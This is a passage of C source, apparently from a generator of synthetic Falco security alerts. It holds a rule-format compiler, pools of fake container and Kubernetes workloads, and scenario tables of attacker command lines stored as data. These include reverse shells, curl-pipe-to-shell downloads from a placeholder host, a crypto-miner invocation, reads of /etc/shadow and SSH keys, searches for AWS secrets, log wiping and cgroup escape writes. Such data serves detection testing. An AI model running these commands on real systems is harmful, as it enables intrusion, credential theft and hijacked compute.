	  "AWS region=%ct.region, lambda function=%ct.request.functionname)", K_CT_LAMBDA, 2, false),
};

static int cmp_cstr(const void *a, const void *b)
{
	return strcmp(*(const char *const *)a, *(const char *const *)b);
}

static char *str_replace1(const char *s, const char *what, const char *with)
{
	const char *hit = strstr(s, what);
	if (!hit)
		return xstrdup(s);
	return xasprintf("%.*s%s%s", (int)(hit - s), s, with, hit + strlen(what));
}

/* Falco's format tokens: %field or %field[arg]; field = [A-Za-z0-9_.]+. */
static void fmt_compile(const struct rule *r, struct fmt *f, const char *text)
{
	const char *p = f->text = xstrdup(text);
	const char *lit = p;
	int n = 0;
	struct seg *segs = f->segs;
	while (*p) {
		if (*p != '%' || !(p[1] == '_' || (p[1] >= 'a' && p[1] <= 'z'))) {
			p++;
			continue;
		}
		if (p > lit)
			segs[n++] = (struct seg){ .field = -1, .lit = lit, .litlen = (size_t)(p - lit) };
		const char *name = ++p;
		while (*p == '.' || *p == '_' || (*p >= 'a' && *p <= 'z') || (*p >= '0' && *p <= '9'))
			p++;
		size_t nlen = (size_t)(p - name);
		char *arg = NULL;
		const char *key_end = p;
		if (*p == '[') {
			const char *close = strchr(p, ']');
			if (!close)
				fatal("rule '%s': unterminated [", r->name);
			arg = xstrndup(p + 1, (size_t)(close - p - 1));
			p = close + 1;
			key_end = p;
		}
		int fid = -1;
		for (int i = 0; i < F_COUNT; i++)
			if (strlen(field_name[i]) == nlen && memcmp(field_name[i], name, nlen) == 0)
				fid = i;
		if (fid < 0)
			fatal("rule '%s': unknown field %.*s", r->name, (int)nlen, name);
		if (n >= MAX_SEGS - 1)
			fatal("rule '%s': format too long", r->name);
		segs[n++] = (struct seg){ .field = fid, .arg = arg, .key = xstrndup(name, (size_t)(key_end - name)) };
		lit = p;
	}
	if (p > lit)
		segs[n++] = (struct seg){ .field = -1, .lit = lit, .litlen = (size_t)(p - lit) };
	f->nsegs = n;
}

static void rule_compile(struct rule *r)
{
	char *pk = str_replace1(r->format, "%container.info", CONTAINER_INFO_PK);
	char *plain = str_replace1(r->format, "%container.info", CONTAINER_INFO_PLAIN);
	fmt_compile(r, &r->fmt[FMT_PK], pk);
	fmt_compile(r, &r->fmt[FMT_PLAIN], plain);
	free(pk);
	free(plain);

	/* Falco keeps tags in a std::set: sorted bytewise. */
	char *t = xstrdup(r->tags), *save = NULL;
	r->ntags = 0;
	for (char *tok = strtok_r(t, ", ", &save); tok; tok = strtok_r(NULL, ", ", &save)) {
		if (r->ntags >= (int)ARRAY_LEN(r->tagv))
			fatal("rule '%s': too many tags", r->name);
		r->tagv[r->ntags++] = tok; /* t is kept for the program's lifetime */
	}
	qsort(r->tagv, (size_t)r->ntags, sizeof(r->tagv[0]), cmp_cstr);
}

/* ------------------------------------------------------------------------ */
/* Value pools                                                              */

struct workload {
	const char *name;        /* deployment / container name */
	const char *image;       /* repository */
	const char *tags;        /* ALT-separated */
	const char *namespaces;  /* ALT-separated */
	const char *comm, *exe, *cmdline;
	const char *user;
	int uid;
};

#define ALT "\v"

static const struct workload workloads[] = {
	{ "nginx", "docker.io/library/nginx", "1.25.3" ALT "1.25.4" ALT "1.27.0", "frontend" ALT "web" ALT "default",
	  "nginx", "/usr/sbin/nginx", "nginx: master process nginx -g daemon off;", "root", 0 },
	{ "checkout-api", "ghcr.io/example-org/checkout-api", "2.14.0" ALT "2.14.1" ALT "2.15.0-rc1", "checkout",
	  "java", "/opt/java/openjdk/bin/java", "java -XX:MaxRAMPercentage=75 -jar /app/checkout-api.jar", "app", 1000 },
	{ "payments-worker", "ghcr.io/example-org/payments-worker", "1.8.2" ALT "1.9.0", "payments",
	  "python3", "/usr/local/bin/python3.12", "python3 -m payments.worker --queue settlements", "app", 1000 },
	{ "orders", "ghcr.io/example-org/orders", "3.2.7", "orders",
	  "node", "/usr/local/bin/node", "node dist/server.js", "node", 1000 },
	{ "inventory", "ghcr.io/example-org/inventory", "0.31.4", "inventory",
	  "inventory", "/app/inventory", "/app/inventory --config /etc/inventory/config.yaml", "nobody", 65534 },
	{ "search-indexer", "ghcr.io/example-org/search-indexer", "5.0.1", "search",
	  "python3", "/usr/bin/python3.11", "python3 /srv/indexer.py --batch 500", "root", 0 },
	{ "redis", "docker.io/library/redis", "7.2.4" ALT "7.2.5", "redis" ALT "checkout" ALT "data",
	  "redis-server", "/usr/local/bin/redis-server", "redis-server *:6379", "redis", 999 },
	{ "postgres", "docker.io/library/postgres", "16.2" ALT "15.6", "data" ALT "payments",
	  "postgres", "/usr/lib/postgresql/16/bin/postgres", "postgres -c max_connections=200", "postgres", 999 },
	{ "mysql", "docker.io/library/mysql", "8.3.0", "data", "mysqld", "/usr/sbin/mysqld", "mysqld", "mysql", 999 },
	{ "kafka", "docker.io/bitnami/kafka", "3.6.1", "kafka",
	  "java", "/opt/bitnami/java/bin/java", "java -Xmx1G -server kafka.Kafka /opt/bitnami/kafka/config/server.properties",
	  "<NA>", 1001 },
	{ "prometheus", "quay.io/prometheus/prometheus", "v2.49.1", "monitoring",
	  "prometheus", "/bin/prometheus", "/bin/prometheus --config.file=/etc/prometheus/prometheus.yml", "nobody", 65534 },
	{ "grafana", "docker.io/grafana/grafana", "10.3.1", "monitoring",
	  "grafana", "/usr/share/grafana/bin/grafana", "grafana server --homepath=/usr/share/grafana", "<NA>", 472 },
	{ "ingress-nginx-controller", "registry.k8s.io/ingress-nginx/controller", "v1.9.5", "ingress-nginx",
	  "nginx-ingress-c", "/nginx-ingress-controller", "/nginx-ingress-controller --publish-service=ingress-nginx/ingress-nginx-controller",
	  "www-data", 101 },
	{ "cert-manager", "quay.io/jetstack/cert-manager-controller", "v1.13.3", "cert-manager",
	  "controller", "/app/cmd/controller/controller", "/app/cmd/controller/controller --v=2", "<NA>", 1000 },
	{ "argocd-server", "quay.io/argoproj/argocd", "v2.10.1", "argocd",
	  "argocd-server", "/usr/local/bin/argocd-server", "argocd-server --insecure", "argocd", 999 },
	{ "vault", "docker.io/hashicorp/vault", "1.15.5", "vault",
	  "vault", "/bin/vault", "vault server -config=/vault/config", "vault", 100 },
	{ "fluent-bit", "cr.fluentbit.io/fluent/fluent-bit", "2.2.2", "logging",
	  "fluent-bit", "/fluent-bit/bin/fluent-bit", "/fluent-bit/bin/fluent-bit -c /fluent-bit/etc/fluent-bit.conf", "root", 0 },
	{ "filebeat", "docker.elastic.co/beats/filebeat", "8.12.0", "logging",
	  "filebeat", "/usr/share/filebeat/filebeat", "filebeat -e -c /etc/filebeat.yml", "root", 0 },
	{ "api-gateway", "docker.io/library/httpd", "2.4.58", "api-gateway",
	  "httpd", "/usr/local/apache2/bin/httpd", "httpd -DFOREGROUND", "root", 0 },
	{ "legacy-billing", "docker.io/library/tomcat", "10.1.18-jdk17", "billing",
	  "java", "/opt/java/openjdk/bin/java", "java -Djava.util.logging.config.file=/usr/local/tomcat/conf/logging.properties org.apache.catalina.startup.Bootstrap start",
	  "root", 0 },
	{ "php-frontend", "docker.io/library/php", "8.3-fpm", "frontend",
	  "php-fpm", "/usr/local/sbin/php-fpm", "php-fpm: master process (/usr/local/etc/php-fpm.conf)", "www-data", 33 },
	{ "ml-serving", "ghcr.io/example-org/ml-serving", "2024.02.1", "ml-serving",
	  "python3", "/opt/conda/bin/python3", "python3 -m uvicorn serve:app --host 0.0.0.0 --port 8080", "root", 0 },
	{ "debug-tools", "docker.io/library/alpine", "3.19" ALT "3.19.1" ALT "latest", "default" ALT "ci",
	  "sleep", "/bin/busybox", "sleep infinity", "root", 0 },
	{ "ubuntu-toolbox", "docker.io/library/ubuntu", "22.04" ALT "24.04", "default" ALT "ci",
	  "sleep", "/usr/bin/sleep", "sleep 3600", "root", 0 },
	{ "ci-runner", "docker.io/gitlab/gitlab-runner", "v16.8.0", "ci",
	  "gitlab-runner", "/usr/bin/gitlab-runner", "gitlab-runner run --user=gitlab-runner --working-directory=/home/gitlab-runner",
	  "root", 0 },
	{ "coredns", "registry.k8s.io/coredns/coredns", "v1.11.1", "kube-system",
	  "coredns", "/coredns", "/coredns -conf /etc/coredns/Corefile", "root", 0 },
	{ "mongo", "docker.io/library/mongo", "7.0.5", "data", "mongod", "/usr/bin/mongod", "mongod --bind_ip_all", "mongodb", 999 },
	{ "rabbitmq", "docker.io/library/rabbitmq", "3.12-management", "orders",
	  "beam.smp", "/opt/erlang/lib/erlang/erts-14.2/bin/beam.smp", "/opt/erlang/lib/erlang/erts-14.2/bin/beam.smp -W w -MBas ageffcbf",
	  "rabbitmq", 999 },
};

struct container {
	char id[13];
	char name[96];
	const char *image;       /* NULL: metadata not fetched (null in JSON) */
	char tag[32];
	bool tag_null;
	char ns[32];
	bool no_k8s;             /* plain docker container: k8s fields null */
	char pod[96];
	int node;                /* index into nodes[] */
	const struct workload *w;
	int64_t start_ts;        /* container.start_ts, filled per run */
	char pod_ip[16];
};

static const char *const docker_adjectives[] = { "optimistic", "quirky", "nostalgic", "brave", "eager", "zealous",
						 "festive", "pensive", "stoic", "vigilant" };
static const char *const docker_names[] = { "newton", "lovelace", "hopper", "turing", "tesla", "curie",
					    "ritchie", "thompson", "torvalds", "goldberg" };

static char nodes[40][64];
static struct container containers[POOL_CONTAINERS];

static const char k8s_alnum[] = "bcdfghjklmnpqrstvwxz2456789";

static void rand_k8s(struct rng *r, char *dst, int n)
{
	for (int i = 0; i < n; i++)
		dst[i] = k8s_alnum[rng_below(r, sizeof(k8s_alnum) - 1)];
	dst[n] = '\0';
}

static void rand_hex(struct rng *r, char *dst, int n)
{
	static const char hx[] = "0123456789abcdef";
	for (int i = 0; i < n; i++)
		dst[i] = hx[rng_below(r, 16)];
	dst[n] = '\0';
}

/* Picks one of the ALT-separated alternatives; returns a pointer into `s`
 * and its length. */
static const char *alt_pick(struct rng *r, const char *s, size_t *len)
{
	size_t n = 1;
	for (const char *p = s; *p; p++)
		n += *p == '\v';
	size_t k = rng_below(r, n);
	const char *p = s;
	while (k--)
		p = strchr(p, '\v') + 1;
	const char *e = strchr(p, '\v');
	*len = e ? (size_t)(e - p) : strlen(p);
	return p;
}

static void pool_init(uint64_t seed)
{
	struct rng r;
	rng_seed(&r, seed ^ 0x706f6f6c706f6f6cULL); /* pools do not depend on the event mix */
	for (int i = 0; i < 40; i++) {
		char a[9], b[5];
		rand_hex(&r, a, 8);
		rand_k8s(&r, b, 4);
		if (i < PK_NODES)
			snprintf(nodes[i], sizeof(nodes[i]), "gke-prod-default-pool-%s-%s", a, b);
		else if (i < 20)
			snprintf(nodes[i], sizeof(nodes[i]), "gke-prod-batch-pool-%s-%s", a, b);
		else if (i < 30)
			snprintf(nodes[i], sizeof(nodes[i]), "k8s-worker-%02d.example.internal", i - 19);
		else
			snprintf(nodes[i], sizeof(nodes[i]), "aks-nodepool1-%08" PRIu64 "-vmss%06X",
				 rng_below(&r, 100000000), (unsigned)(i - 30));
	}
	for (int i = 0; i < POOL_CONTAINERS; i++) {
		struct container *c = &containers[i];
		const struct workload *w = &PICK(&r, workloads);
		size_t len;
		const char *p;
		c->w = w;
		rand_hex(&r, c->id, 12);
		c->image = rng_pct(&r, 2) ? NULL : w->image;
		p = alt_pick(&r, w->tags, &len);
		snprintf(c->tag, sizeof(c->tag), "%.*s", (int)len, p);
		c->tag_null = c->image == NULL;
		p = alt_pick(&r, w->namespaces, &len);
		snprintf(c->ns, sizeof(c->ns), "%.*s", (int)len, p);
		c->node = (int)rng_below(&r, 40);
		snprintf(c->pod_ip, sizeof(c->pod_ip), "192.0.2.%d", (int)rng_range(&r, 2, 254));
		c->no_k8s = rng_pct(&r, 3);
		if (c->no_k8s) {
			snprintf(c->name, sizeof(c->name), "%s_%s", PICK(&r, docker_adjectives), PICK(&r, docker_names));
			c->pod[0] = '\0';
			continue;
		}
		char rs[11], sfx[6];
		rand_k8s(&r, rs, 10);
		rand_k8s(&r, sfx, 5);
		if (strcmp(w->name, "redis") == 0 || strcmp(w->name, "postgres") == 0 ||
		    strcmp(w->name, "kafka") == 0 || strcmp(w->name, "mongo") == 0)
			snprintf(c->pod, sizeof(c->pod), "%s-%d", w->name, (int)rng_below(&r, 3));
		else
			snprintf(c->pod, sizeof(c->pod), "%s-%s-%s", w->name, rs, sfx);
		/* containerd names containers as in the pod spec; dockershim-era
		 * nodes still show the long k8s_ form. */
		char name[sizeof(c->name)];
		if (rng_pct(&r, 10))
			snprintf(name, sizeof(name), "k8s_%s_%s_%s_%s_0", w->name, c->pod, c->ns, rs);
		else
			snprintf(name, sizeof(name), "%s", w->name);
		memcpy(c->name, name, sizeof(name));
	}
}

static const char *const k8saudit_hosts[] = { "falco-k8saudit-6d5f8c7b9d-x4k2p", "falco-k8saudit-6d5f8c7b9d-q9w2m",
					      "falco-k8saudit-eks-96d7f6f99-vwjgc" };
static const char *const cloudtrail_hosts[] = { "falco-cloudtrail-7c9d8f6b4-2mzqk" };
static const char *const host_users[] = { "ubuntu", "ec2-user", "admin", "deploy", "root" };
static const int host_uids[] = { 1000, 1000, 1001, 1002, 0 };
static const char *const k8s_humans[] = { "kubernetes-admin", "alice@example.com", "bob@example.com",
					  "oidc:carol", "dave@example.org", "system:serviceaccount:ci:deployer",
					  "system:serviceaccount:argocd:argocd-application-controller" };
static const char *const aws_regions[] = { "us-east-1", "us-west-2", "eu-west-1", "eu-central-1", "ap-southeast-2" };
static const char *const aws_users[] = { "alice.smith", "ci-deployer", "root", "bob.jones",
					  "AWSReservedSSO_AdministratorAccess_2d4f6a8b0c1e3579/carol" };

/* ------------------------------------------------------------------------ */
/* Event context: everything the resolvers can be asked for.                */

struct override {
	int field;
	struct val v;
};

struct evctx {
	struct rng *r;
	struct arena *ar;
	const struct container *c;   /* NULL: host */
	const char *hostname;
	int fmt;                     /* FMT_PK or FMT_PLAIN: how the node's Falco runs */
	int64_t time_ns;
	/* process */
	const char *comm, *exepath, *cmdline, *pname, *pexepath, *pcmdline, *cwd, *args, *sname, *exe;
	const char *aname[8];        /* [1] = parent; [2..7] ancestors */
	const char *user, *loginname, *group;
	int64_t uid, loginuid, gid, tty, pid;
	/* event */
	const char *evt_type, *flags, *res, *evt_args, *target, *linkpath, *arg_uid, *caps;
	const char *fd_name, *fd_type, *sip;
	const char *dst;             /* remote IP the scenario talks to, for {ext} */
	bool has_ports;
	int64_t lport, rport;
	int64_t ino_ctime, ino_mtime, ino_dur;
	/* k8s audit */
	const char *ka_user, *ka_target, *ka_resource, *ka_ns, *ka_sub, *ka_verb, *ka_uri, *ka_code;
	const char *ka_decision, *ka_reason, *ka_resp_name, *ka_cmd, *ka_volumes, *ka_rules, *jevt_obj;
	const char *ka_eph_name, *ka_eph_image;
	const char *ka_images[2];
	size_t ka_nimages;
	/* cloudtrail */
	const char *ct_user, *ct_srcip, *ct_region, *ct_req_user, *ct_req_name, *ct_req_func;
	/* hostile overrides, checked before the above */
	struct override ov[4];
	int nov;
};

static struct val val_aname(const struct evctx *e, const char *arg)
{
	int n = arg ? atoi(arg) : 1;
	if (n < 1 || n > 7)
		return v_null();
	return v_str(e->aname[n]);
}

static const char *exe_of(struct arena *ar, const char *comm)
{
	static const struct { const char *comm, *exe; } known[] = {
		{ "containerd-shim", "/usr/bin/containerd-shim-runc-v2" }, { "systemd", "/usr/lib/systemd/systemd" },
		{ "sshd", "/usr/sbin/sshd" }, { "sudo", "/usr/bin/sudo" }, { "cron", "/usr/sbin/cron" },
		{ "runc", "/usr/bin/runc" }, { "bash", "/usr/bin/bash" }, { "sh", "/bin/busybox" },
	};
	if (!comm)
		return NULL;
	for (size_t i = 0; i < ARRAY_LEN(known); i++)
		if (strcmp(known[i].comm, comm) == 0)
			return known[i].exe;
	return arena_printf(ar, "/usr/bin/%s", comm);
}

static struct val resolve(const struct evctx *e, int f, const char *arg)
{
	for (int i = 0; i < e->nov; i++)
		if (e->ov[i].field == f)
			return e->ov[i].v;
	const struct container *c = e->c;
	switch ((enum field)f) {
	case F_EVT_TIME: return v_int(e->time_ns);
	case F_EVT_TYPE: return v_str(e->evt_type);
	case F_EVT_ARG_FLAGS: return v_str(e->flags);
	case F_EVT_ARGS: return v_str(e->evt_args);
	case F_EVT_ARG_TARGET: return v_str(e->target);
	case F_EVT_ARG_LINKPATH: return v_str(e->linkpath);
	case F_EVT_RES: return v_str(e->res);
	case F_EVT_ARG_UID: return v_str(e->arg_uid);
	case F_USER_NAME: return v_str(e->user);
	case F_USER_UID: return v_int(e->uid);
	case F_USER_LOGINUID: return v_int(e->loginuid);
	case F_USER_LOGINNAME: return v_str(e->loginname);
	case F_GROUP_GID: return v_int(e->gid);
	case F_GROUP_NAME: return v_str(e->group);
	case F_PROC_NAME: return v_str(e->comm);
	case F_PROC_EXEPATH: return v_str(e->exepath);
	case F_PROC_PNAME: return v_str(e->aname[1]);
	case F_PROC_CMDLINE: return v_str(e->cmdline);
	case F_PROC_TTY: return v_int(e->tty);
	case F_PROC_PCMDLINE: return v_str(e->pcmdline);
	case F_PROC_PEXE: return v_str(e->pexepath);
	case F_PROC_PEXEPATH: return v_str(e->pexepath);
	case F_PROC_ANAME: return val_aname(e, arg);
	case F_PROC_AEXEPATH: {
		struct val a = val_aname(e, arg);
		return a.t == V_NULL ? a : v_str(exe_of(e->ar, a.s));
	}
	case F_PROC_CWD: return v_str(e->cwd);
	case F_PROC_ARGS: return v_str(e->args);
	case F_PROC_EXE: return v_str(e->exe ? e->exe : e->exepath);
	case F_PROC_SNAME: return v_str(e->sname);
	case F_INO_CTIME: return v_int(e->ino_ctime);
	case F_INO_MTIME: return v_int(e->ino_mtime);
	case F_INO_CTIME_DUR: return v_int(e->ino_dur);
	case F_CONTAINER_ID: return v_str(c ? c->id : "host");
	case F_CONTAINER_NAME: return v_str(c ? c->name : "host");
	case F_IMAGE_REPO: return c ? v_str(c->image) : v_null();
	case F_IMAGE_TAG: return c && !c->tag_null ? v_str(c->tag) : v_null();
	case F_CONTAINER_START_TS: return c ? v_int(c->start_ts) : v_null();
	case F_K8S_NS: return c && !c->no_k8s ? v_str(c->ns) : v_null();
	case F_K8S_POD: return c && !c->no_k8s ? v_str(c->pod) : v_null();
	case F_FD_NAME: return v_str(e->fd_name);
	case F_FD_LPORT: return e->has_ports ? v_int(e->lport) : v_null();
	case F_FD_RPORT: return e->has_ports ? v_int(e->rport) : v_null();
	case F_FD_TYPE: return v_str(e->fd_type);
	case F_FD_SIP: return v_str(e->sip);
	case F_FD_RIP: return v_str(e->sip);
	case F_PROC_PID: return v_int(e->pid);
	case F_CAP_EFFECTIVE: return v_str(e->caps);
	case F_KA_USER: return v_str(e->ka_user);
	case F_KA_TARGET_NAME: return v_str(e->ka_target);
	case F_KA_TARGET_RESOURCE: return v_str(e->ka_resource);
	case F_KA_TARGET_NS: return v_str(e->ka_ns);
	case F_KA_TARGET_SUB: return v_str(e->ka_sub);
	case F_KA_VERB: return v_str(e->ka_verb);
	case F_KA_URI: return v_str(e->ka_uri);
	case F_KA_RESP_CODE: return v_str(e->ka_code);
	case F_KA_DECISION: return v_str(e->ka_decision);
	case F_KA_REASON: return v_str(e->ka_reason);
	case F_KA_RESP_NAME: return v_str(e->ka_resp_name);
	case F_KA_POD_IMAGES:
		return (struct val){ .t = V_LIST, .list = e->ka_images, .nlist = e->ka_nimages };
	case F_KA_URI_PARAM: return v_str(e->ka_cmd);
	case F_JEVT_VALUE:
		if (arg && strcmp(arg, "/requestObject/spec/volumes") == 0)
			return v_str(e->ka_volumes);
		if (arg && strstr(arg, "/name"))
			return v_str(e->ka_eph_name);
		return v_str(e->ka_eph_image);
	case F_JEVT_OBJ: return v_str(e->jevt_obj);
	case F_KA_ROLE_RULES: return v_str(e->ka_rules);
	case F_CT_USER: return v_str(e->ct_user);
	case F_CT_SRCIP: return v_str(e->ct_srcip);
	case F_CT_REGION: return v_str(e->ct_region);
	case F_CT_REQ_USERNAME: return v_str(e->ct_req_user);
	case F_CT_REQ_NAME: return v_str(e->ct_req_name);
	case F_CT_REQ_FUNCTION: return v_str(e->ct_req_func);
	case F_COUNT: break;
	}
	return v_null();
}

/* ------------------------------------------------------------------------ */
/* Scenarios: what happened, per rule kind.                                 */

/* One observed activity. file, cmdline and flags may hold ALT-separated
 * alternatives; cmdline and file the placeholders {file} (the picked file),
 * {ext} (the remote 203.0.113.x), {api}, {pod_ip}, {rport}, {n}, {home}. */
struct act {
	const char *comm, *exepath, *cmdline;
	const char *file;
	const char *evt_type, *flags;
};

#define EXEC_FLAGS "EXE_WRITABLE" ALT "EXE_WRITABLE|EXE_LOWER_LAYER" ALT "EXE_LOWER_LAYER" ALT "EXE_UPPER_LAYER"

static const struct act acts_terminal[] = {
	{ "bash", "/usr/bin/bash", "bash", NULL, "execve", EXEC_FLAGS },
	{ "sh", "/bin/busybox", "sh -c clear; (bash || ash || sh)", NULL, "execve", EXEC_FLAGS },
	{ "bash", "/bin/bash", "bash -il", NULL, "execve", EXEC_FLAGS },
	{ "sh", "/usr/bin/dash", "/bin/sh", NULL, "execve", EXEC_FLAGS },
	{ "sh", "/bin/busybox", "sh", NULL, "execve", EXEC_FLAGS },
	{ "zsh", "/usr/bin/zsh", "zsh", NULL, "execve", EXEC_FLAGS },
};
static const struct act acts_read_sensitive[] = {
	{ "cat", "/usr/bin/cat", "cat {file}", "/etc/shadow" ALT "/etc/sudoers" ALT "/etc/pam.conf", "openat",
	  "O_RDONLY" ALT "O_RDONLY|O_CLOEXEC" },
	{ "python3", "/usr/bin/python3.11", "python3 -c print(open('{file}').read())", "/etc/shadow", "openat",
	  "O_RDONLY|O_CLOEXEC" },
	{ "less", "/usr/bin/less", "less {file}", "/etc/sudoers" ALT "/etc/sudoers.d/90-cloud-init-users", "openat", "O_RDONLY" },
	{ "head", "/usr/bin/head", "head -n 5 {file}", "/etc/shadow", "openat", "O_RDONLY" },
	{ "vim", "/usr/bin/vim.basic", "vim {file}", "/etc/pam.d/common-auth" ALT "/etc/security/pwquality.conf",
	  "openat", "O_RDONLY" },
	{ "perl", "/usr/bin/perl", "perl -ne print {file}", "/etc/shadow", "openat", "O_RDONLY|O_CLOEXEC" },
};
static const char *const untrusted_cmds[] = {
	"id", "uname -a", "whoami", "cat /etc/passwd", "ls -la /var/www/html", "curl -fsSL http://{ext}/x.sh | sh",
	"wget -qO- http://{ext}:8080/a | sh", "echo cHduZWQ= | base64 -d", "env", "ps aux",
};
static const struct act acts_system_user[] = {
	{ "login", "/bin/busybox", "login", NULL, "execve", EXEC_FLAGS },
	{ "bash", "/usr/bin/bash", "bash -i", NULL, "execve", EXEC_FLAGS },
	{ "su", "/usr/bin/su", "su - daemon -s /bin/bash", NULL, "execve", EXEC_FLAGS },
};
static const struct act acts_k8s_api[] = {
	{ "python", "/usr/local/bin/python3.12", "python -u /app/sidecar.py", NULL, "connect", NULL },
	{ "kubectl", "/usr/local/bin/kubectl", "kubectl get secrets -A -o json", NULL, "connect", NULL },
	{ "curl", "/usr/bin/curl", "curl -sk -H Authorization: Bearer eyJhbGciOiJSUzI1NiIs... https://{api}/api/v1/namespaces",
	  NULL, "connect", NULL },
	{ "helm", "/usr/local/bin/helm", "helm list -A", NULL, "connect", NULL },
	{ "java", "/opt/java/openjdk/bin/java", "java -jar /app/operator.jar", NULL, "connect", NULL },
	{ "node", "/usr/local/bin/node", "node /srv/watcher.js", NULL, "connect", NULL },
};
static const struct act acts_search_keys[] = {
	{ "grep", "/usr/bin/grep", "grep -r BEGIN RSA PRIVATE /home /root", NULL, "execve", EXEC_FLAGS },
	{ "grep", "/bin/busybox", "grep -ril BEGIN OPENSSH PRIVATE /", NULL, "execve", EXEC_FLAGS },
	{ "find", "/usr/bin/find", "find / -name id_rsa -o -name id_ed25519", NULL, "execve", EXEC_FLAGS },
};
static const struct act acts_clear_log[] = {
	{ "truncate", "/usr/bin/truncate", "truncate -s 0 {file}", "/var/log/auth.log" ALT "/var/log/syslog" ALT "/var/log/secure",
	  "openat", "O_WRONLY|O_CREAT|O_TRUNC" },
	{ "bash", "/usr/bin/bash", "bash -c > {file}", "/var/log/nginx/access_log" ALT "/var/log/kern.log", "openat",
	  "O_WRONLY|O_CREAT|O_TRUNC" },
	{ "python3", "/usr/bin/python3.11", "python3 -c open('{file}','w').close()", "/var/log/auth.log", "openat",
	  "O_WRONLY|O_CREAT|O_TRUNC|O_CLOEXEC" },
};
static const struct act acts_symlink[] = {
	{ "ln", "/usr/bin/ln", "ln -s {file} /tmp/.s", "/etc/shadow" ALT "/etc/sudoers" ALT "/root", "symlinkat", NULL },
};
static const struct act acts_packet[] = {
	{ "tcpdump", "/usr/bin/tcpdump", "tcpdump -i eth0 -w /tmp/cap.pcap", NULL, "socket", NULL },
	{ "python3", "/usr/bin/python3.11", "python3 arp_spoof.py --iface eth0 --target {pod_ip}", NULL, "socket", NULL },
	{ "arping", "/usr/sbin/arping", "arping -c 3 {pod_ip}", NULL, "socket", NULL },
};
static const struct act acts_redirect[] = {
	{ "bash", "/usr/bin/bash", "bash -i", NULL, "dup2", NULL },
	{ "sh", "/bin/busybox", "sh -c exec 5<>/dev/tcp/{ext}/4444;cat <&5 | while read line; do $line 2>&5 >&5; done",
	  NULL, "dup2", NULL },
	{ "python3", "/usr/bin/python3.11", "python3 -c import socket,os,pty;s=socket.socket();s.connect((\"{ext}\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")",
	  NULL, "dup2", NULL },
};
static const struct act acts_kmod[] = {
	{ "insmod", "/usr/sbin/insmod", "insmod /tmp/rootkit.ko", NULL, "finit_module", NULL },
	{ "modprobe", "/usr/sbin/modprobe", "modprobe -a br_netfilter overlay", NULL, "init_module", NULL },
};
static const struct act acts_release_agent[] = {
	{ "sh", "/bin/busybox", "sh -c echo /cmd > {file}", "/tmp/cgrp/release_agent" ALT "/sys/fs/cgroup/rdma/release_agent",
	  "openat", "O_WRONLY|O_CREAT|O_TRUNC" },
	{ "bash", "/usr/bin/bash", "bash -c echo \"$host_path/cmd\" > {file}", "/tmp/cgrp/release_agent", "openat",
	  "O_WRONLY|O_CREAT|O_TRUNC" },
};
static const struct act acts_ptrace[] = {
	{ "gdb", "/usr/bin/gdb", "gdb -p {n} -batch -ex call (int)system(\"id\")", NULL, "ptrace", NULL },
	{ "strace", "/usr/bin/strace", "strace -f -p {n}", NULL, "ptrace", NULL },
	{ "python3", "/usr/bin/python3.11", "python3 inject.py {n}", NULL, "ptrace", NULL },
};
static const struct act acts_find_aws[] = {
	{ "grep", "/usr/bin/grep", "grep -ri aws_secret_access_key {home}", NULL, "execve", EXEC_FLAGS },
	{ "find", "/usr/bin/find", "find / -path */.aws/credentials", NULL, "execve", EXEC_FLAGS },
	{ "grep", "/bin/busybox", "grep -r aws_access_key_id /app /etc /root", NULL, "execve", EXEC_FLAGS },
};
static const struct act acts_dev_shm[] = {
	{ "kworker", "/dev/shm/.x/kworker", "/dev/shm/.x/kworker -c /dev/shm/.x/cfg", NULL, "execve", EXEC_FLAGS },
	{ "sh", "/bin/busybox", "sh /dev/shm/.s/run.sh", NULL, "execve", EXEC_FLAGS },
	{ "payload", "/dev/shm/payload", "./payload --daemon", NULL, "execve", EXEC_FLAGS },
};
static const struct act acts_drop_exec[] = {
	{ "xmrig", "/tmp/xmrig", "/tmp/xmrig -o stratum+tcp://{ext}:3333 --donate-level 1", NULL, "execve",
	  "EXE_WRITABLE|EXE_UPPER_LAYER" },
	{ "kinsing", "/tmp/kinsing", "/tmp/kinsing", NULL, "execve", "EXE_WRITABLE|EXE_UPPER_LAYER" },
	{ "curl", "/usr/local/bin/curl", "curl -o /tmp/a http://{ext}/a", NULL, "execve", "EXE_WRITABLE|EXE_UPPER_LAYER" },
	{ "nmap", "/usr/bin/nmap", "nmap -sT -p 1-1024 {pod_ip}/28", NULL, "execve", "EXE_WRITABLE|EXE_UPPER_LAYER" },
	{ "busybox", "/var/tmp/busybox", "/var/tmp/busybox nc {ext} 443 -e /bin/sh", NULL, "execve",
	  "EXE_WRITABLE|EXE_UPPER_LAYER" },
};
static const struct act acts_miner[] = {
	{ "xmrig", "/tmp/.x/xmrig", "/tmp/.x/xmrig -o {ext}:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -k --tls",
	  NULL, "connect", NULL },
	{ "kdevtmpfsi", "/tmp/kdevtmpfsi", "/tmp/kdevtmpfsi", NULL, "connect", NULL },
	{ "python3", "/usr/bin/python3.11", "python3 -c import socket;socket.create_connection((\"{ext}\",14444))", NULL,
	  "connect", NULL },
};
static const struct act acts_memfd[] = {
	{ "3", "memfd:", "3 -s", NULL, "execve", "EXE_WRITABLE|EXE_FROM_MEMFD" },
	{ "python3", "memfd:py", "python3", NULL, "execve", "EXE_WRITABLE|EXE_FROM_MEMFD" },
};
static const struct act acts_ssh_nonstd[] = {
	{ "ssh", "/usr/bin/ssh", "ssh -p {rport} -R 2222:localhost:22 tunnel@{ext}", NULL, "connect", NULL },
};
static const struct act acts_netcat[] = {
	{ "nc", "/usr/bin/nc.traditional", "nc -e /bin/sh {ext} 4444", NULL, "execve", EXEC_FLAGS },
	{ "ncat", "/usr/bin/ncat", "ncat {ext} 443 --sh-exec /bin/bash", NULL, "execve", EXEC_FLAGS },
	{ "nc", "/bin/busybox", "nc {ext} 9001 -c sh", NULL, "execve", EXEC_FLAGS },
};
static const struct act acts_read_ssh[] = {
	{ "cat", "/usr/bin/cat", "cat {file}", "/root/.ssh/id_rsa" ALT "/root/.ssh/authorized_keys" ALT "/home/ubuntu/.ssh/id_ed25519",
	  "openat", "O_RDONLY" },
	{ "tar", "/usr/bin/tar", "tar czf /tmp/k.tgz /root/.ssh", "/root/.ssh" ALT "/root/.ssh/known_hosts", "openat",
